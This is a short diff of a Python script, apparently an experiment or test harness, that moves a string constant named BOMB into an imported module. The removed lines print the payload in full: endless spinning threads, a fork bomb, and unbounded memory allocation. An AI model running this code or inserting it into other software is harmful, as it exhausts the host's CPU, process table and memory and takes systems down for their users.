@@ -15,25 +15,9 @@ from typing import Any, BinaryIO
 
 sys.path.insert(0, str(Path(__file__).parent))
 
+from neighbours import BOMB
+
 STEPS, ROUNDS = 150, 7
-BOMB = """
-import os, threading
-for _ in range(64):
-    try:
-        threading.Thread(target=lambda: [0 for _ in iter(int, 1)], daemon=True).start()
-    except RuntimeError:
-        break
-held = []
-while True:
-    try:
-        os.fork()
-    except OSError:
-        pass
-    try:
-        held.append(bytearray(1 << 28))
-    except MemoryError:
-        pass
-"""
 
 
 def train() -> tuple[float, float]:
